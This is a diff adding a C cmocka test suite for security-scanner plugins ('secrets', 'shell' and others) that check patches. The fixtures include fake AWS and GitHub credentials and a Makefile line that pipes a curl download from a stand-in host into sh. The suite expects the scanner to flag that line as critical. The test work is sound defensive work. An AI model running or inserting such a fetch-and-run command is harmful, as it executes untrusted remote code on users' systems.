@@ -1,0 +1,236 @@
+/*
+ * test_plugins.c: the built analyzer plugins (<build>/plugins/<name>.so)
+ * through dlopen with a test host table: descriptor fields, the single
+ * exported symbol, init/analyze/fini, the host's AIRLOCK_E_LIMIT stopping a
+ * scan, a failing host allocator, a short input struct, the parsed-files
+ * input path (no patch text), and an evidence bound.
+ */
+#include <dlfcn.h>
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include <cmocka.h>
+
+#include "airlock_plugin.h"
+
+static const char *const s_names[] = {"secrets", "shell", "python", "paths", "ci"};
+
+typedef struct {
+    unsigned n;
+    unsigned limit_after;     /* answer AIRLOCK_E_LIMIT after this many, 0 = never */
+    int fail_alloc;
+    unsigned allocs, frees;
+    char rule[8][64];
+    int sev[8];
+    unsigned line[8];
+    char evidence[8][AIRLOCK_MAX_EVIDENCE + 1];
+    int evidence_nul_ok;
+} host_ctx_t;
+
+static int h_emit(void *ctx, const airlock_finding_t *f)
+{
+    host_ctx_t *h = ctx;
+    if (f->struct_size != sizeof *f || !f->rule_id || !f->message)
+        return AIRLOCK_E_INVAL;
+    if (h->n < 8) {
+        snprintf(h->rule[h->n], sizeof h->rule[0], "%s", f->rule_id);
+        h->sev[h->n] = f->severity;
+        h->line[h->n] = f->line;
+        if (f->evidence) {
+            h->evidence_nul_ok &= strlen(f->evidence) <= AIRLOCK_MAX_EVIDENCE;
+            snprintf(h->evidence[h->n], sizeof h->evidence[0], "%s", f->evidence);
+        }
+    }
+    h->n++;
+    return (h->limit_after && h->n >= h->limit_after) ? AIRLOCK_E_LIMIT : AIRLOCK_OK;
+}
+
+static void h_log(void *ctx, int level, const char *msg)
+{
+    (void)ctx;
+    (void)level;
+    (void)msg;
+}
+
+static void *h_alloc(void *ctx, size_t n)
+{
+    host_ctx_t *h = ctx;
+    if (h->fail_alloc)
+        return NULL;
+    h->allocs++;
+    return malloc(n);
+}
+
+static void h_free(void *ctx, void *p)
+{
+    host_ctx_t *h = ctx;
+    if (p)
+        h->frees++;
+    free(p);
+}
+
+static void *open_plugin(const char *name, const airlock_plugin_t **d)
+{
+    char path[1024];
+    void *so;
+    const airlock_plugin_t *(*fn)(void);
+    snprintf(path, sizeof path, "%s/plugins/%s.so", AIRLOCK_BUILD_DIR, name);
+    so = dlopen(path, RTLD_NOW | RTLD_LOCAL);
+    if (!so)
+        fail_msg("dlopen %s: %s", path, dlerror());
+    *(void **)&fn = dlsym(so, AIRLOCK_PLUGIN_SYMBOL);
+    assert_non_null(fn);
+    *d = fn();
+    assert_non_null(*d);
+    return so;
+}
+
+static int run_patch(const airlock_plugin_t *d, host_ctx_t *h, const char *patch)
+{
+    airlock_host_t host = {sizeof host, AIRLOCK_PLUGIN_ABI_VERSION, h_emit, h_log,
+                           h_alloc, h_free, h};
+    airlock_input_t in = {sizeof in, patch, strlen(patch), 0, NULL};
+    void *state = NULL;
+    int rc = d->init(&host, &state);
+    if (rc != 0)
+        return rc;
+    rc = d->analyze(state, &in);
+    d->fini(state);
+    return rc;
+}
+
+static void test_descriptors(void **s)
+{
+    (void)s;
+    for (size_t i = 0; i < sizeof s_names / sizeof s_names[0]; i++) {
+        const airlock_plugin_t *d;
+        void *so = open_plugin(s_names[i], &d);
+        assert_int_equal(d->struct_size, sizeof(airlock_plugin_t));
+        assert_int_equal(d->abi_version, AIRLOCK_PLUGIN_ABI_VERSION);
+        assert_string_equal(d->name, s_names[i]);
+        assert_int_equal(d->capabilities & ~AIRLOCK_CAP_ALL, 0);
+        for (size_t k = 0; k < 8; k++)
+            assert_null(d->reserved[k]);
+        /* nothing but the descriptor is exported */
+        assert_null(dlsym(so, "an_plugin_analyze"));
+        assert_null(dlsym(so, "an_patch_walk"));
+        assert_null(dlsym(so, "shell_scan_command"));
+        dlclose(so);
+    }
+}
+
+static const char s_aws_patch[] =
+    "diff --git a/prod.env b/prod.env\nnew file mode 100644\n--- /dev/null\n+++ b/prod.env\n"
+    "@@ -0,0 +1,2 @@\n+KEY=AKIAQ3EGUJ7ZK5RVPX2M\n+SECRET=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\n";
+
+static void test_secrets_through_abi(void **s)
+{
+    const airlock_plugin_t *d;
+    host_ctx_t h = {.evidence_nul_ok = 1};
+    void *so = open_plugin("secrets", &d);
+    (void)s;
+    assert_int_equal(run_patch(d, &h, s_aws_patch), 0);
+    assert_int_equal(h.n, 2);
+    assert_string_equal(h.rule[0], "secrets.aws_access_key");
+    assert_int_equal(h.sev[0], AIRLOCK_SEV_HIGH);
+    assert_int_equal(h.line[0], 1);
+    assert_string_equal(h.evidence[0], "AKIAQ3EGUJ7ZK5RVPX2M");
+    assert_string_equal(h.rule[1], "secrets.aws_secret_key");
+    assert_int_equal(h.allocs, h.frees);
+    dlclose(so);
+}
+
+static void test_limit_stops_scan(void **s)
+{
+    const airlock_plugin_t *d;
+    host_ctx_t h = {.limit_after = 1};
+    void *so = open_plugin("secrets", &d);
+    (void)s;
+    assert_int_equal(run_patch(d, &h, s_aws_patch), 0); /* E_LIMIT: stop and return 0 */
+    assert_int_equal(h.n, 1);
+    dlclose(so);
+}
+
+static void test_host_failures(void **s)
+{
+    const airlock_plugin_t *d;
+    host_ctx_t h = {.fail_alloc = 1};
+    airlock_host_t host = {sizeof host, AIRLOCK_PLUGIN_ABI_VERSION, h_emit, h_log,
+                           h_alloc, h_free, &h};
+    airlock_input_t in = {sizeof in - 8, "", 0, 0, NULL};
+    void *state = NULL;
+    void *so = open_plugin("shell", &d);
+    (void)s;
+    assert_int_equal(run_patch(d, &h, s_aws_patch), AIRLOCK_E_NOMEM);
+    h.fail_alloc = 0;
+    host.struct_size = 8; /* a short host table is refused */
+    assert_int_not_equal(d->init(&host, &state), 0);
+    host.struct_size = sizeof host;
+    assert_int_equal(d->init(&host, &state), 0);
+    assert_int_not_equal(d->analyze(state, &in), 0); /* short input struct */
+    d->fini(state);
+    assert_int_equal(h.allocs, h.frees);
+    dlclose(so);
+}
+
+/* No patch text: the plugin reads the host's parsed files instead. */
+static void test_files_input(void **s)
+{
+    const airlock_plugin_t *d;
+    host_ctx_t h = {0};
+    static const char line1[] = "setup:";
+    static const char line2[] = "\tcurl -s https://x.example/i | sh";
+    airlock_line_t lines[2] = {{1, sizeof line1 - 1, line1}, {2, sizeof line2 - 1, line2}};
+    airlock_file_t f = {sizeof f, "Makefile", "Makefile", "Makefile", AIRLOCK_MODE_FILE,
+                        AIRLOCK_MODE_FILE, 0, 2, lines, NULL, 0};
+    airlock_host_t host = {sizeof host, AIRLOCK_PLUGIN_ABI_VERSION, h_emit, h_log,
+                           h_alloc, h_free, &h};
+    airlock_input_t in = {sizeof in, "", 0, 1, &f};
+    void *state = NULL;
+    void *so = open_plugin("shell", &d);
+    (void)s;
+    assert_int_equal(d->init(&host, &state), 0);
+    assert_int_equal(d->analyze(state, &in), 0);
+    d->fini(state);
+    assert_int_equal(h.n, 1);
+    assert_string_equal(h.rule[0], "shell.curl_pipe_shell");
+    assert_int_equal(h.sev[0], AIRLOCK_SEV_CRITICAL);
+    assert_int_equal(h.line[0], 2);
+    dlclose(so);
+}
+
+static void test_evidence_bounded(void **s)
+{
+    const airlock_plugin_t *d;
+    host_ctx_t h = {.evidence_nul_ok = 1};
+    char patch[4096];
+    char tok[700];
+    void *so = open_plugin("secrets", &d);
+    (void)s;
+    memset(tok, 'a', sizeof tok - 1);
+    tok[sizeof tok - 1] = '\0';
+    memcpy(tok, "ghp_", 4);
+    snprintf(patch, sizeof patch, "--- a/x\n+++ b/x\n@@ -0,0 +1 @@\n+t=%s9Z\n", tok);
+    assert_int_equal(run_patch(d, &h, patch), 0);
+    assert_int_equal(h.n, 1);
+    assert_true(h.evidence_nul_ok);
+    assert_int_equal(strlen(h.evidence[0]), AIRLOCK_MAX_EVIDENCE);
+    dlclose(so);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_descriptors),
+        cmocka_unit_test(test_secrets_through_abi),
+        cmocka_unit_test(test_limit_stops_scan),
+        cmocka_unit_test(test_host_failures),
+        cmocka_unit_test(test_files_input),
+        cmocka_unit_test(test_evidence_bounded),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
